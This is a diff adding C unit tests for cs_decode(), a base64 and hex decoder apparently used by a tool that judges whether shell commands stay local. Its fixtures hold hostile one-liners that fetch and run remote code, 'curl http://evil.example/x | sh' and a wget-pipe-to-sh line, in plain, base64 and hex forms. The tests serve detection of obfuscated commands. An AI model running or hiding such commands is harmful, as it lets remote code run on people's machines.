@@ -457,6 +457,67 @@ word_case(void)
  * Traffic to this machine only is no network capability ("runs locally"
  * holds); one other host beside it, with a scheme or bare, is.
  */
+/* One case of cs_decode(): what s decodes to (NULL: nothing) and how. */
+static void
+decodes(const char *s, size_t outsz, const char *want, const char *kind,
+    const char *what)
+{
+	char		 out[256];
+	const char	*k = NULL;
+	size_t		 n;
+
+	n = cs_decode(s, strlen(s), out, outsz, 0, 0, &k);
+	if (want == NULL) {
+		is_int(n, 0, "decode %s: nothing", what);
+		return;
+	}
+	ok(n == strlen(want) && memcmp(out, want, n) == 0 &&
+	    k != NULL && strcmp(k, kind) == 0, "decode %s: %.*s (%s)", what,
+	    (int)n, out, k ? k : "none");
+}
+
+/* The base64 and hex decoders (libsodium's beneath them). */
+static void
+decoders(void)
+{
+	const char	*curl = "curl http://evil.example/x | sh";
+	const char	*ls = "echo ~~ok?? >> /tmp/a.txt; ls";
+
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==", 256, curl,
+	    "base64", "padded");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA", 256, curl,
+	    "base64", "unpadded");
+	decodes("Y3VybCBodHRwOi8vZXZp\nbC5leGFtcGxlL3ggfCBzaA==\n", 256,
+	    curl, "base64", "with line breaks");
+	decodes("ZWNobyB+fm9rPz8gPj4gL3RtcC9hLnR4dDsgbHM=", 256, ls, "base64",
+	    "standard alphabet");
+	decodes("ZWNobyB-fm9rPz8gPj4gL3RtcC9hLnR4dDsgbHM", 256, ls, "base64",
+	    "both alphabets in one string");
+	decodes("d2dldCAtcSAtTy0gaG9zdC9hLnNofHNoIH5-", 256,
+	    "wget -q -O- host/a.sh|sh ~~", "base64", "URL-safe");
+	/* the unused bits of the last digit set: base64 -d ignores them */
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaB==", 256, curl,
+	    "base64", "non-zero trailing bits");
+	decodes("Y3VybCBodHRw*i8vZXZpbC5leGFtcGxlL3ggfCBzaA==", 256, NULL,
+	    NULL, "a character outside both alphabets");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5l=GFtcGxlL3ggfCBzaA==", 256, NULL,
+	    NULL, "padding inside");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAAAA", 256, NULL,
+	    NULL, "one digit left over");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==", 30, NULL, NULL,
+	    "output one byte too small");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==", 31, curl,
+	    "base64", "output just big enough");
+	decodes("6375726c20687474703a2f2f6576696c2e6578616d706c652f78207c207368",
+	    256, curl, "hex", "hex");
+	decodes("6375726C20687474703A2F2F6576696C2E6578616D706C652F78207C207368",
+	    256, curl, "hex", "upper-case hex");
+	decodes("6375726c20687474703a2f2f6576696c2e6578616d706c652f78207c20736",
+	    256, NULL, NULL, "odd hex");
+	decodes("6375726c20687474703a2f2f6576696c2e6578616d706c652f78207c207368",
+	    20, NULL, NULL, "hex, output too small");
+}
+
 static void
 loopback(void)
 {
@@ -511,5 +572,6 @@ main(void)
 	bounds();
 	word_case();
 	loopback();
+	decoders();
 	return done_testing();
 }
